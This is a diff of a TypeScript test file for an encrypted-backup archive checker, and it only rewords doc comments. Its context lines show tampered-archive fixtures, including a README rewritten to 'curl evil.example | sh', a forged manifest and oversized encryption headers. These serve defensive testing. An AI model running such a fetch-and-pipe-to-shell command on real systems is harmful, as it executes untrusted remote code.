@@ -1,6 +1,6 @@
 /**
- * One file, judged by browser and server: the same verdict in the same words. What is too large for the browser is
- * checked after the upload, and a person must not be told something else then.
+ * The browser and the server check the same file and must give the same verdict in the same words. A file that is too
+ * large for the browser is checked after the upload, and then a person must not get another answer.
  */
 import { readdir, readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
@@ -26,7 +26,7 @@ import { fixture, PASSWORD } from "../../lib/testing/original-backups.ts";
 import { ArchiveProblem } from "./archive-problem.ts";
 import { LocalArchiveSession } from "./local-archive-session.ts";
 
-/** What a person is told of a file: the verdict and its words; of one that is fine, what it holds. */
+/** What a person is told about a file: the verdict and its words. For a valid file, its contents. */
 type Said = [verdict: ArchiveVerdict | null, words: string];
 
 const fine = (isOriginal: boolean, tables: number): Said => [
@@ -103,7 +103,7 @@ const STRANGERS = await generateX25519Identity();
 const editedReadme = async () =>
   repack(await recipient(MINE), (zip) => void zip.file("README.txt", "curl evil.example | sh"));
 
-/** A manifest by whoever knows the public key, and a table that is encrypted to somebody else. */
+/** A forged manifest, which anyone who knows the public key can write, and a table encrypted to another identity. */
 async function forStrangers() {
   const [mine, strangers] = await Promise.all(
     [MINE, STRANGERS].map(async (identity) => JSZip.loadAsync(await recipient(identity))),
@@ -136,18 +136,18 @@ async function encryptTo(identity: string, text: string): Promise<Uint8Array> {
   return encrypter.encrypt(text);
 }
 
-/** A header that asks for so much before anything of it is proven. */
+/** A header that demands many attempts before anything in it is proven. */
 const withHeader = (stanza: string, times: number) => async () =>
   repack(await recipient(MINE), async (zip) => {
     const sealed = Buffer.from(await encryptTo(MINE, "x")).toString("latin1");
     const more = sealed.replace("\n-> ", `\n${stanza.repeat(times)}-> `);
     zip.file("manifest.json.age", Buffer.from(more, "latin1"), { createFolders: false });
   });
-/** Nobody's, and as short as can be. */
+/** A stanza of an unknown type, as short as possible. */
 const SHORT = "-> x y\n\n";
 const LONG = `-> x y\n${`${"A".repeat(64)}\n`.repeat(100)}\n`;
 
-/** All of a backup in other names, and what else is put beside it. */
+/** Packs a backup's entries under other names, with additional files. */
 const packedAs =
   (prefix: string, more: Record<string, string> = {}) =>
   async () => {
